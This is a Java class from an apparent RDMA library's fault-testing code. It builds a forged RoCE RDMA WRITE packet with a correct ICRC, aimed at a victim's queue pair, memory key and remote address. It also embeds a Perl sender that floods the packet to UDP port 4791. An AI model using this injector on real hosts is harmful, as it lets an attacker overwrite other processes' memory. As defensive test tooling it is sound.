package io.rdma4j.faults.traffic;

import io.rdma4j.wire.Bth;
import io.rdma4j.wire.Icrc;
import io.rdma4j.wire.Opcode;
import io.rdma4j.wire.Reth;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.net.InetAddress;
import java.util.HexFormat;

/** An RDMA WRITE of eight bytes as an attacker makes it: all is right in it but who sends it. */
public final class ForgedWrite {
    /**
     * Perl that sends one packet many times, so that another user needs nothing of this project to do it. Arguments: the
     * IPv4 address that it comes from and goes to, its UDP port, how often, the packet in hexadecimal digits.
     */
    public static final String SENDER = """
            my ($host, $port, $count, $hex) = @ARGV;
            socket(my $socket, AF_INET, SOCK_DGRAM, 17) or die "socket: $!";
            bind($socket, pack_sockaddr_in($port, inet_aton($host))) or die "bind: $!";
            my ($data, $to) = (pack("H*", $hex), pack_sockaddr_in(4791, inet_aton($host)));
            for (1 .. $count) { send($socket, $data, 0, $to); select(undef, undef, undef, 0.001) if $_ % 200 == 0; }
            """;

    private ForgedWrite() {}

    /**
     * The packet, with a right ICRC.
     *
     * @param host IPv4 address that it comes from and goes to
     * @param udpPort UDP port that it comes from
     * @param queuePair of the victim
     * @param psn what is due
     * @param remoteAddress where to write
     * @param key of the memory
     * @param value what to write, in the byte order of this machine
     */
    public static String hex(
            String host, int udpPort, int queuePair, int psn, long remoteAddress, int key, long value) {
        int payloadAt = Bth.LENGTH + Reth.LENGTH;
        byte[] bytes = new byte[payloadAt + Long.BYTES + Icrc.LENGTH];
        MemorySegment memory = MemorySegment.ofArray(bytes);
        Bth.write(memory, 0, Opcode.RC_WRITE_ONLY.code(), false, 0, 0xffff, queuePair, true, psn);
        Reth.write(memory, Bth.LENGTH, remoteAddress, key, Long.BYTES);
        memory.set(ValueLayout.JAVA_LONG_UNALIGNED, payloadAt, value);
        InetAddress address = InetAddress.ofLiteral(host);
        new Sealer(address, udpPort, address).seal(bytes, bytes.length);
        return HexFormat.of().formatHex(bytes);
    }
}
